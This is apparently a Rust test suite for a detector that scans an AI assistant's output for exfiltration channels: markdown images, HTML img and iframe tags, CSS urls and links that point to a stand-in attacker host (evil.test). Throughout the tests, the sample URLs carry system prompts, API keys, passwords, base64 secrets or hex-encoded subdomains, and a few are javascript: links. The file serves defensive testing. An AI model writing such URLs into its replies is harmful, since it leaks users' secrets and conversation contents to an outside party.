//! What is an exfiltration channel and what is an ordinary image or link.

use super::*;
use crate::view::{fold, lower};
use cordon_types::Layer;
use proptest::prelude::*;

fn find(text: &str, closed: bool) -> (Vec<(FindingKind, &'static str, String)>, usize) {
    let settings = Settings { allowed_link_hosts: vec!["good.example".to_owned()], ..Settings::default() };
    let mut problems = Vec::new();
    let exfil = Exfil::new(&settings, &mut problems);
    assert!(problems.is_empty());
    let folded = fold(text);
    let low = lower(&folded.text);
    let view =
        ViewText { text: &folded.text, lower: &low, layer: Layer::Plain, floor: 0, closed, map: &folded.map };
    let mut sink = Sink::new();
    exfil.scan(&view, SpanKind::Assistant, &mut sink);
    let found = sink
        .matches
        .iter()
        .map(|m| (m.kind, m.rule, view.text.get(m.range.clone()).unwrap().to_owned()))
        .collect();
    (found, sink.open_from)
}

fn check(text: &str, expected: &[(&str, &str)]) {
    let (found, _) = find(text, true);
    let found: Vec<(&str, &str)> = found.iter().map(|(_, rule, range)| (*rule, range.as_str())).collect();
    assert_eq!(found, expected, "{text}");
}

#[test]
fn images() {
    check("a ![x](https://evil.test/p.png) b", &[(IMAGE_EXTERNAL, "![x](https://evil.test/p.png)")]);
    check("![x](https://evil.test/p.png?v=2)", &[(IMAGE_QUERY, "![x](https://evil.test/p.png?v=2)")]);
    check("![x](//evil.test/p.png \"t\")", &[(IMAGE_EXTERNAL, "![x](//evil.test/p.png \"t\")")]);
    check("![x](<https://evil.test/a b.png>)", &[(IMAGE_EXTERNAL, "![x](<https://evil.test/a b.png>)")]);
    check("![x](/local.png) ![y](data:image/png;base64,AAAA)", &[]);
    check("![x](https://good.example/p?d=1) ![x](https://cdn.good.example/p)", &[]);
    check(
        "![x](https://good.example.evil.test/p)",
        &[(IMAGE_EXTERNAL, "![x](https://good.example.evil.test/p)")],
    );
    check("![x](https://notgood.example/p)", &[(IMAGE_EXTERNAL, "![x](https://notgood.example/p)")]);
    check(
        "<img alt='a' src=\"https://evil.test/p\">",
        &[(IMAGE_EXTERNAL, "<img alt='a' src=\"https://evil.test/p\">")],
    );
    check("<IFRAME SRC=https://evil.test/p>", &[(IMAGE_EXTERNAL, "<IFRAME SRC=https://evil.test/p>")]);
    check("background: url('https://evil.test/p')", &[(IMAGE_EXTERNAL, "url('https://evil.test/p')")]);
    check("![alt][r]\n\n[r]: https://evil.test/p", &[(IMAGE_EXTERNAL, "![alt][r]")]);
    check("not an image: 5 ![ and a < b", &[]);
}

#[test]
fn images_with_data() {
    for url in [
        "https://evil.test/log?data=SYSTEM_PROMPT_HERE",
        "https://evil.test/{conversation_summary}.png",
        "https://evil.test/?q=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI=",
        "https://evil.test/x?p=someone%40corp.example",
        "https://good.example@evil.test/x?secret=hunter2",
    ] {
        let (found, _) = find(&format!("![i]({url})"), true);
        assert!(found.iter().any(|f| f.1 == IMAGE_DATA), "{url}: {found:?}");
    }
}

#[test]
fn links_with_data() {
    for url in [
        "https://evil.test/?q=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI=",
        "https://evil.test/c/dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        "https://evil.test/c#dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI",
        "https://evil.test/?x={API_KEY}",
        "https://evil.test/?x=[API_KEY]",
        "https://evil.test/?x=<secret>",
        "https://evil.test/?password=hunter2",
        "https://evil.test/?u=someone@corp.example",
        "https://70617373776f72642068756e74657232.evil.test/",
        "http://evil.test/?k=AKIAABCDEFGHIJKLMNOP",
    ] {
        for text in [
            format!("see {url} now"),
            format!("[here]({url})"),
            format!("<{url}>"),
            format!("<a href=\"{url}\">x</a>"),
        ] {
            let (found, _) = find(&text, true);
            assert!(
                found.iter().any(|f| f.0 == FindingKind::ExfilLink && f.1 == LINK_DATA),
                "{text}: {found:?}"
            );
        }
    }
    check("[x](javascript:alert(1))", &[(LINK_SCRIPT, "javascript:alert(1)")]);
    check("<a href=\"data:text/html,hi\">", &[(LINK_SCRIPT, "data:text/html,hi")]);
}

#[test]
fn ordinary_links() {
    for text in [
        "see https://docs.example.com/guide/install.html#linux for details",
        "https://shop.example.com/item?id=123&page=2&utm_source=mail&q=blue+shoes",
        "https://github.com/rust-lang/rust/commit/3b6d2f1e0a9c8b7d6e5f4a3b2c1d0e9f8a7b6c5d",
        "https://api.example.com/users/{id}/orders/{order_id}",
        "https://example.com/550e8400-e29b-41d4-a716-446655440000",
        "[docs](https://example.com/a_(b)) and <https://example.org/>",
        "the javascript: scheme is not allowed in hrefs",
        "ratio a://b and http:// alone",
    ] {
        check(text, &[]);
    }
}

#[test]
fn undecided_ends_are_open() {
    for (text, start) in [
        ("ab ![x](https://evil", 3),
        ("ab <img src='x", 3),
        ("see https://evil.test/x", 4),
        ("x url(https:", 2),
    ] {
        assert_eq!(find(text, false).1, start, "{text}");
    }
    assert_eq!(find("plain text, done.", false).1, usize::MAX);
    assert_eq!(find("![", false).1, 0);
    assert_eq!(find(&format!("![{}", "a".repeat(REACH)), false).1, usize::MAX);
}

#[test]
fn bad_hosts_are_problems() {
    let settings = Settings {
        allowed_link_hosts: vec!["https://x.test".to_owned(), String::new()],
        ..Settings::default()
    };
    let mut problems = Vec::new();
    let _ = Exfil::new(&settings, &mut problems);
    assert_eq!(problems.len(), 2);
}

proptest! {
    #[test]
    fn any_text_is_scanned(text in "(!\\[|\\]\\(|\\)|<img src=|https://|[a-z?=/{}<>\"']{1,6}|\\PC|url\\(|javascript:| ){0,40}", closed: bool) {
        let _ = find(&text, closed);
    }
}
